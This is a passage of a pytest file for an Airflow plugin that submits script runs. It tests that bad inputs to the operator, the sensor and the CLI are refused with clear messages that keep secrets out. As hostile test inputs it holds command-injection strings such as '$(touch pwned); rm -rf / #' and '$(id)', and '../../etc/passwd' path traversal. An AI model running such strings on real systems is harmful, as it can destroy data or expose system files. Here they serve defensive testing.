    Bad("Workspace.from_connection", "database_url", "wrong type", 5, "postgresql://user@host/amlrun", lambda g, v: connection(g, database_url=v)),
    Bad("Workspace.from_connection", "database_url", "not a URL", f"{SECRET} at db", "postgresql://user:password@host/amlrun", lambda g, v: connection(g, database_url=v), hidden=SECRET),
    Bad("Workspace.from_connection", "database_url", "NUL", f"postgresql://amlrun:{SECRET}@db/amlrun{NUL}", "postgresql://user@host/amlrun", lambda g, v: connection(g, database_url=v), hidden=SECRET),
    Bad("Workspace.from_connection", "database_url", "no dialect", f"mongodb://amlrun:{SECRET}@db/amlrun", "use postgresql://", lambda g, v: connection(g, database_url=v), hidden=SECRET),
    Bad("Workspace.from_connection", "store_url", "relative", "amlrun/store", "give an absolute folder", lambda g, v: connection(g, store_url=v)),
    Bad("Workspace.from_connection", "store_url", "unknown protocol", f"nope://amlrun:{SECRET}@bucket/x", "an fsspec URL whose package is installed", lambda g, v: connection(g, store_url=v), hidden=SECRET),
    Bad("Workspace.from_connection", "store_url", "NUL", f"/srv/store{NUL}", "s3://bucket/amlrun", lambda g, v: connection(g, store_url=v)),
    Bad("Workspace.from_connection", "storage_options", "a string", '{"anon": true}', "must be a JSON object", lambda g, v: connection(g, storage_options=v)),
    # ScriptRunOperator, as the DAG file builds it
    Bad("ScriptRunOperator", "config", "wrong type", {"script": "train.py"}, "the path of a YAML file holding one", lambda g, v: operator(g, config=v)),
    Bad("ScriptRunOperator", "config", "empty", "", "give the path of the file", lambda g, v: operator(g, config=v)),
    Bad("ScriptRunOperator", "config", "a script", "train.py", "pass a ScriptRunConfig", lambda g, v: operator(g, config=v)),
    Bad("ScriptRunOperator", "config", "NUL", f"run{NUL}.yaml", "fix the path", lambda g, v: operator(g, config=v)),
    Bad("ScriptRunOperator", "experiment name", "space", "my experiment", "use 3-36 characters", lambda g, v: operator(g, experiment=v)),
    Bad("ScriptRunOperator", "experiment name", "empty", "", "use 3-36 characters", lambda g, v: operator(g, experiment=v)),
    Bad("ScriptRunOperator", "experiment name", "wrong type", 5, "use 3-36 characters", lambda g, v: operator(g, experiment=v)),
    Bad("ScriptRunOperator", "arguments", "one string", "--alpha 0.5", "Split a command line into its words", lambda g, v: operator(g, arguments=v)),
    Bad("ScriptRunOperator", "arguments[1]", "dict", ["--params", {"lr": 0.1}], "json.dumps(value)", lambda g, v: operator(g, arguments=v)),
    Bad("ScriptRunOperator", "arguments[0]", "NUL", [f"--alpha{NUL}"], "remove it", lambda g, v: operator(g, arguments=v)),
    Bad("ScriptRunOperator", "arguments=", "with command", ["--alpha"], "write them into the command itself", lambda g, v: operator(g, config=ScriptRunConfig(g.src, command="echo"), arguments=v)),
    Bad("ScriptRunOperator", "environment_variables", "wrong type", ["MODE=fast"], "{'MY_VAR': 'value'}", lambda g, v: operator(g, environment_variables=v)),
    Bad("ScriptRunOperator", "environment_variables", "empty name", {"": "fast"}, "use a non-empty string", lambda g, v: operator(g, environment_variables=v)),
    Bad("ScriptRunOperator", "secret_environment_variables['TOKEN']", "dict", {"TOKEN": {"password": SECRET}}, "give the value as a string", lambda g, v: operator(g, secret_environment_variables=v), hidden=SECRET),
    Bad("ScriptRunOperator", "tags", "wrong type", ["nightly"], "{'team': 'vision'}", lambda g, v: operator(g, tags=v)),
    Bad("ScriptRunOperator", "tags['team']", "a list", {"team": ["a", "b"]}, "json.dumps(value)", lambda g, v: operator(g, tags=v)),
    Bad("ScriptRunOperator", "workspace_conn_id", "empty", "", "leave it None for the default workspace", lambda g, v: operator(g, workspace_conn_id=v)),
    Bad("ScriptRunOperator", "workspace_conn_id", "shell", f"team{SHELL}", "leave it None for the default workspace", lambda g, v: operator(g, workspace_conn_id=v)),
    Bad("ScriptRunOperator", "show_output", "wrong type", "no", "True or False", lambda g, v: operator(g, show_output=v)),
    Bad("ScriptRunOperator", "deferrable", "wrong type", "yes", "True or False", lambda g, v: operator(g, deferrable=v)),
    Bad("ScriptRunOperator", "reattach_on_retry", "wrong type", "false", "True or False", lambda g, v: operator(g, reattach_on_retry=v)),
    # RunStatusSensor
    Bad("RunStatusSensor", "run_id", "wrong type", None, "xcom_pull(task_ids='train')['run_id']", lambda g, v: sensor(run_id=v)),
    Bad("RunStatusSensor", "run_id", "empty", "", "xcom_pull(task_ids='train')['run_id']", lambda g, v: sensor(run_id=v)),
    Bad("RunStatusSensor", "run_id", "NUL", f"train_1795700859_0852cf59{NUL}", "give the id of a run", lambda g, v: sensor(run_id=v)),
    Bad("RunStatusSensor", "run_id", "huge", MEGABYTE, "give the id of a run", lambda g, v: sensor(run_id=v)),
    Bad("RunStatusSensor", "deferrable", "wrong type", "yes", "True or False", lambda g, v: sensor(deferrable=v)),
    Bad("RunStatusSensor", "workspace_conn_id", "wrong type", 5, "leave it None for the default workspace", lambda g, v: sensor(workspace_conn_id=v)),
]  # fmt: skip


@pytest.mark.parametrize("row", TABLE, ids=[row.id for row in TABLE])
def test_bad_value_is_refused_naming_the_argument_and_the_fix(
    row: Bad, given: Given, amlrun_home: Path
) -> None:
    with pytest.raises(AmlRunError) as refused:
        row.run(given, row.value)
    message = str(refused.value)
    assert row.argument in message, f"the message does not name {row.argument!r}: {message[:500]}"
    assert row.fix in message, f"the message does not say the fix {row.fix!r}: {message[:500]}"
    assert len(message) < LONGEST_MESSAGE, message[:500]
    if row.hidden is not None:
        assert row.hidden not in message
    assert "should never run" not in message
    assert_nothing_recorded(amlrun_home)


@dataclass(frozen=True)
class Good:
    """A value that only looks bad: accepted, and kept as given."""

    call: str
    argument: str
    kind: str
    value: Any
    run: Callable[[Given, Any], object]
    kept: Callable[[Any, Any], bool]

    @property
    def id(self) -> str:
        return f"{self.call}:{self.argument}:{self.kind}"


ACCEPTED = [
    Good(C, "script", "unicode", "entraîner.py", lambda g, v: config(g, script=v).resolved(), lambda c, v: c.script == v),
    Good(C, "arguments", "unicode", ["--note", UNICODE], lambda g, v: config(g, arguments=v), lambda c, v: c.arguments == v),
    Good(C, "arguments", "shell", [SHELL, "$(id)", "`id`", "a b", "'q'"], lambda g, v: config(g, arguments=v), lambda c, v: c.arguments == v),
    Good(C, "arguments", "100k words", ["x"] * 100_000, lambda g, v: config(g, arguments=v), lambda c, v: c.arguments == v),
    Good(C, "environment_variables", "unicode name with a space", {"GRÜSSE MIT LEERZEICHEN": "$(id)"}, lambda g, v: config(g, environment_variables=v), lambda c, v: c.environment_variables == v),
    Good(C, "compute_target", "unicode connection id", "gpu_集群", lambda g, v: config(g, compute_target=v), lambda c, v: c.compute_target == v),
    Good(C, "max_run_duration_seconds", "a century", 100 * 365 * 86400.0, lambda g, v: config(g, max_run_duration_seconds=v), lambda c, v: c.max_run_duration_seconds == v),
    Good(Y, "python.requirements_file", "beside the YAML, not the working directory", "source_directory: src\nscript: train.py\nenvironment: {name: e, python: {requirements_file: requirements.txt}}\n", from_yaml, lambda c, v: c.environment.python.pip_requirements == ["tomli-w==1.0.0"]),
    Good(E, "python.version", "quoted 3.10", "3.10", lambda g, v: Environment("mine", python=PythonSection(version=v)), lambda e, v: e.python.version == "3.10"),
    Good("Environment.from_docker_image", "image", "registry, port, tag and digest", "registry.example.com:5000/team/train:1.2@sha256:" + "a" * 64, lambda g, v: Environment.from_docker_image("mine", v), lambda e, v: e.docker.base_image == v),
    Good("Environment.from_pip_requirements", "file_path", "-r ../shared/base.txt, as pip reads it", "team/requirements.txt", lambda g, v: Environment.from_pip_requirements("mine", g.files / v), lambda e, v: e.python.pip_requirements == ["tomli-w==1.0.0"]),
    Good("Environment.from_pip_requirements", "file_path", "a list, read as a file's lines", ["tomli-w==1.0.0  # pinned", "--extra-index-url https://pkgs.example.com/simple"], lambda g, v: Environment.from_pip_requirements("mine", v), lambda e, v: e.python.pip_requirements == ["tomli-w==1.0.0"] and e.python.extra_index_urls == ["https://pkgs.example.com/simple"]),
    Good("Experiment", "name", "36 characters", "a" * 36, lambda g, v: Experiment(Workspace.get(), v), lambda x, v: x.name == v),
    Good("ScriptRunOperator", "experiment", "a template", "{{ params.experiment }}", lambda g, v: operator(g, experiment=v), lambda o, v: o.experiment == v),
    Good("ScriptRunOperator", "arguments", "an upstream task's output", "--params", lambda g, v: in_a_dag(lambda out: operator(g, arguments=[v, out])), lambda o, v: o.arguments[0] == v and type(o.arguments[1]).__name__ == "PlainXComArg"),
    Good("RunStatusSensor", "run_id", "an upstream task's output", "run_id", lambda g, v: in_a_dag(lambda out: sensor(run_id=out[v])), lambda s, v: type(s.run_id).__name__ == "PlainXComArg"),
    Good("ScriptRunOperator", "tags", "None, a date and a decimal, kept as text", {"a": None, "b": datetime.date(2026, 1, 2), "c": decimal.Decimal("0.1")}, lambda g, v: operator(g, tags=v), lambda o, v: o.tags == v),
    Good(C, "snapshot_max_files", "1e4 as YAML reads it", 1e4, lambda g, v: config(g, snapshot_max_files=v), lambda c, v: c.snapshot_max_files == 10000 and isinstance(c.snapshot_max_files, int)),
    Good("ScriptRunOperator", "config", "a JSON file (YAML reads JSON)", "train.json", lambda g, v: operator(g, config=v), lambda o, v: o.config == v),
    Good("Workspace.from_connection", "store_url", "a chained fsspec URL", "simplecache::memory://amlrun", lambda g, v: connection(g, store_url=v), lambda w, v: w.store_url == v),
    Good("RunStatusSensor", "run_id", "a template", "{{ ti.xcom_pull(task_ids='train')['run_id'] }}", lambda g, v: sensor(run_id=v), lambda s, v: s.run_id == v),
]  # fmt: skip


@pytest.mark.parametrize("row", ACCEPTED, ids=[row.id for row in ACCEPTED])
def test_value_that_only_looks_bad_is_accepted_as_given(row: Good, given: Given, amlrun_home: Path) -> None:
    made = row.run(given, row.value)
    assert row.kept(made, row.value)
    assert_nothing_recorded(amlrun_home)


def test_shell_metacharacters_unicode_and_100k_arguments_reach_the_script_verbatim(
    amlrun_home: Path, tmp_path: Path
) -> None:
    source = tmp_path / "données 日本"
    write_script(source, "entraîner.py", ECHO_ARGV)
    arguments = [
        SHELL,
        "$(touch pwned)",
        "`touch pwned`",
        "a b",
        "'q' \"q\" \\",
        UNICODE,
        *["x"] * 100_000,
    ]
    run = Experiment(Workspace.get(), "verbatim").submit(
        ScriptRunConfig(
            source,
            script="entraîner.py",
            arguments=arguments,
            environment_variables={"GRÜSSE MIT LEERZEICHEN": "grüße $(id)"},
        )
    )
    record = run.wait_for_completion(show_output=False)
    assert str(record.status) == "Completed"
    seen = json.loads((Path(record.outputs_uri) / "seen.json").read_text())
    assert seen["argv"] == arguments
    assert seen["greeting"] == "grüße $(id)"
    assert "pwned" not in seen["cwd"]
    assert Workspace.get().get_run(run.id).arguments == arguments


# Tasks whose values Airflow renders: one DAG, each task failing on its own, one task that runs.
RENDERED_DAG = """
import pendulum
from airflow.sdk import DAG, task
from airflow_amlrun import ScriptRunConfig, ScriptRunOperator
from airflow_amlrun.sensors.run_status import RunStatusSensor

CANARY = ScriptRunConfig(SOURCE, script="train.py")
PARAMS = {
    "experiment": "my experiment",
    "args": "--alpha 0.5",
    "tags": "team=vision",
    "token": "hunter2\\u0000",
    "shell": "$(touch pwned); rm -rf / #",
}

with DAG("DAG_ID", schedule=None, start_date=pendulum.datetime(2026, 1, 1, tz="UTC"), params=PARAMS) as dag:
    @task
    def hyperparameters():
        return {"lr": 0.1}

    ScriptRunOperator(task_id="experiment_renders_invalid", config=CANARY, experiment="{{ params.experiment }}")
    ScriptRunOperator(task_id="experiment_renders_empty", config=CANARY, experiment="{{ params.get('nothing', '') }}")
    ScriptRunOperator(task_id="arguments_render_a_string", config=CANARY, arguments="{{ params.args }}")
    ScriptRunOperator(task_id="argument_from_xcom_is_a_dict", config=CANARY, arguments=["--params", hyperparameters()])
    ScriptRunOperator(
        task_id="variable_renders_huge", config=CANARY, environment_variables={"MODE": "{{ 'x' * 200000 }}"}
    )
    ScriptRunOperator(
        task_id="secret_renders_nul", config=CANARY, secret_environment_variables={"TOKEN": "{{ params.token }}"}
    )
    ScriptRunOperator(task_id="tags_render_a_string", config=CANARY, tags="{{ params.tags }}")
    ScriptRunOperator(task_id="yaml_config_missing", config="missing.yaml")
    RunStatusSensor(task_id="run_id_renders_empty", run_id="{{ params.get('nothing', '') }}", poke_interval=1)
    ScriptRunOperator(
        task_id="verbatim",
        experiment="verbatim",
        config=ScriptRunConfig(VERBATIM, script="echo_argv.py"),
        arguments=["{{ params.shell }}", "`touch pwned`", "\\u03b1 ✓ 日本語"],
    )
"""

RENDERED_REFUSALS = {
    "experiment_renders_invalid": ("Invalid experiment name 'my experiment'", "use 3-36 characters"),
    "experiment_renders_empty": ("Invalid experiment name ''", "use 3-36 characters"),
    "arguments_render_a_string": ("arguments must be a list", "Split a command line into its words"),
    "argument_from_xcom_is_a_dict": ("arguments[1] = {'lr': 0.1} (dict)", "json.dumps(value)"),
    "variable_renders_huge": (
        "environment_variables['MODE'] is 200005 bytes long",
        "Write the value to a file",
    ),
    "secret_renders_nul": ("secret_environment_variables['TOKEN'] holds a NUL byte", "remove it"),
    "tags_render_a_string": ("tags must be a mapping", "{'team': 'vision'}"),
    "yaml_config_missing": ("missing.yaml' does not exist", "Check the path"),
    "run_id_renders_empty": ("run_id='' is not a run id", "xcom_pull(task_ids='train')['run_id']"),
}


@pytest.mark.usefixtures("airflow_db")
def test_values_rendered_bad_fail_their_tasks_and_rendered_shell_text_reaches_the_script(
    run_dag: Callable[..., Any], given: Given, amlrun_home: Path, tmp_path: Path
) -> None:
    verbatim = tmp_path / "verbatim"
    write_script(verbatim, "echo_argv.py", ECHO_ARGV)
    source = RENDERED_DAG.replace("SOURCE", repr(str(given.src))).replace("VERBATIM", repr(str(verbatim)))
    result = run_dag(source)

    for task_id, (names, fix) in RENDERED_REFUSALS.items():
        assert result.task_states[task_id] == "failed", task_id
        said = [line for line in result.log.splitlines() if names in line]
        assert said, f"{task_id}: no line says {names!r}"
        assert any(fix in line for line in said), f"{task_id}: {said[0][:500]}"
        assert all(len(line) < LONGEST_MESSAGE + 500 for line in said)
    assert not [line for line in result.log.splitlines() if "TOKEN" in line and "hunter2" in line]
    assert "should never run" not in result.log

    assert result.task_states["verbatim"] == "success"
    [run] = Workspace.get().list_runs()
    assert (run.id, str(run.status)) == (result.xcoms["verbatim"]["run_id"], "Completed")
    expected = ["$(touch pwned); rm -rf / #", "`touch pwned`", "\u03b1 ✓ 日本語"]
    assert run.arguments == expected
    seen = json.loads((Path(run.outputs_uri) / "seen.json").read_text())
    assert seen["argv"] == expected and "pwned" not in seen["cwd"]


# The CLI: each row is one `amlrun` command line, which must end with status 2 and a message on stderr.
CLI = [
    (
        ["--conn-id", "", "runs", "list"],
        "argument --conn-id",
        "leave --conn-id out for the default workspace",
    ),
    (["--conn-id", f"team{SHELL}", "runs", "list"], "argument --conn-id", "leave --conn-id out"),
    (
        ["--conn-id", "no_such_ws", "runs", "list"],
        "No Airflow connection 'no_such_ws'",
        "Create one of type 'amlrun'",
    ),
    (["runs", "list", "--limit", "0"], "argument --limit", "e.g. --limit 50"),
    (["runs", "list", "--limit", "-1"], "argument --limit", "e.g. --limit 50"),
    (["runs", "list", "--limit", "many"], "argument --limit", "e.g. --limit 50"),
    (["runs", "list", "--status", "done"], "argument --status", "use one of Queued, Preparing"),
    (["runs", "list", "--experiment", f"abc{SHELL}"], "argument --experiment", "use 3-36 characters"),
    (["runs", "list", "--experiment", "x" * 100_000], "argument --experiment", "use 3-36 characters"),
    (["runs", "show", ""], "argument run_id", "`amlrun runs list` shows the run ids"),
    (["runs", "show", "../../etc/passwd"], "No run '../../etc/passwd'", "`amlrun runs list` shows the runs"),
    (["runs", "show", "$(id)"], "No run '$(id)'", "`amlrun runs list` shows the runs"),
    (["runs", "show", "RUN", "--tail", "-3"], "argument --tail", "e.g. --tail 50"),
    (["runs", "show", "RUN", "--tail", "all"], "argument --tail", "e.g. --tail 50"),
    (["runs", "logs", ""], "argument run_id", "`amlrun runs list` shows the run ids"),
    (["runs", "logs", "$(id)"], "No run '$(id)'", "`amlrun runs list` shows the runs"),
    (["runs", "logs", "../../etc/passwd", "--follow"], "No run '../../etc/passwd'", "`amlrun runs list`"),
    (["reconcile", "--after", "nan"], "argument --after", "e.g. --after 900"),
    (["reconcile", "--after", "inf"], "argument --after", "e.g. --after 900"),
    (["reconcile", "--after", "-5"], "argument --after", "e.g. --after 900"),
    (["reconcile", "--after", "1"], "--after 1 is shorter than two heartbeats", "Give at least that"),
    (["snapshot", "restore", "", "restored"], "argument id", "`amlrun runs list` shows the run ids"),
    (["snapshot", "restore", "RUN", ""], "argument path", "name a new or empty folder"),
    (
        ["snapshot", "restore", "../../etc", "restored"],
        "No run or snapshot '../../etc'",
        "List the runs with `amlrun runs list`",
    ),
    (
        ["snapshot", "restore", "RUN", "occupied"],
        "Destination 'occupied' is not empty",
        "an empty or new directory",
    ),
]


@pytest.fixture(scope="module")
def cli_home(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A workspace with one Completed run, for the CLI to read: its home and the run's id."""
    home = tmp_path_factory.mktemp("cli") / "amlrun"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("AIRFLOW__AMLRUN__HOME", str(home))
        source = tmp_path_factory.mktemp("cli-src")
        write_script(source, "train.py", "print('done')\n")
        run = Experiment(Workspace.get(), "cli_reads").submit(ScriptRunConfig(source, script="train.py"))
        run.wait_for_completion(show_output=False)
    return home, run.id


@dataclass(frozen=True)
class CliAnswer:
    """What one `amlrun` command line said, and the folder it ran in (holding a folder `occupied`)."""

    status: int
    stderr: str
    cwd: Path


@pytest.fixture(scope="module")
def cli_answers(cli_home: tuple[Path, str], tmp_path_factory: pytest.TempPathFactory) -> list[CliAnswer]:
    """Every CLI row's command line, all started at once (each is a second of interpreter start-up), each
    in a folder of its own."""
    home, run_id = cli_home
    env = {**os.environ, "AIRFLOW__AMLRUN__HOME": str(home), "COLUMNS": "400"}
    started = []
    for argv, _names, _fix in CLI:
        cwd = tmp_path_factory.mktemp("cli-row")
        (cwd / "occupied").mkdir()
        (cwd / "occupied" / "notes.txt").write_text("mine\n")
        words = [run_id if word == "RUN" else word for word in argv]
        process = subprocess.Popen(
            [AMLRUN, *words], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=env, cwd=cwd
        )
        started.append((process, cwd))
    answers = []
    for process, cwd in started:
        _out, err = process.communicate(timeout=300)
        answers.append(CliAnswer(process.returncode, err, cwd))
    return answers


@pytest.mark.parametrize("row", range(len(CLI)), ids=[" ".join(a)[:60] for a, _n, _f in CLI])
def test_cli_refuses_bad_input_naming_the_option_and_the_fix(
    row: int, cli_answers: list[CliAnswer], cli_home: tuple[Path, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    _argv, names, fix = CLI[row]
    answer = cli_answers[row]
    said = " ".join(answer.stderr.split())
    assert answer.status == 2, answer.stderr[-2000:]
    assert names in said and fix in said, said[-2000:]
    assert "Traceback" not in answer.stderr
    assert len(said) < LONGEST_MESSAGE + 1000
    # Nothing changed: the one run, as it was; the occupied folder, as it was; nothing restored.
    home, run_id = cli_home
    monkeypatch.setenv("AIRFLOW__AMLRUN__HOME", str(home))
    assert [(r.id, str(r.status)) for r in Workspace.get().list_runs()] == [(run_id, "Completed")]
    assert sorted(p.name for p in (answer.cwd / "occupied").iterdir()) == ["notes.txt"]
    assert sorted(p.name for p in answer.cwd.iterdir()) == ["occupied"]


def test_cli_accepts_a_status_in_any_case_and_a_huge_limit(cli_home: tuple[Path, str]) -> None:
    home, run_id = cli_home
    env = {**os.environ, "AIRFLOW__AMLRUN__HOME": str(home)}
    done = subprocess.run(
        [AMLRUN, "runs", "list", "--status", "completed", "--limit", str(10**12), "--json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert [summary["run_id"] for summary in json.loads(done.stdout)] == [run_id]
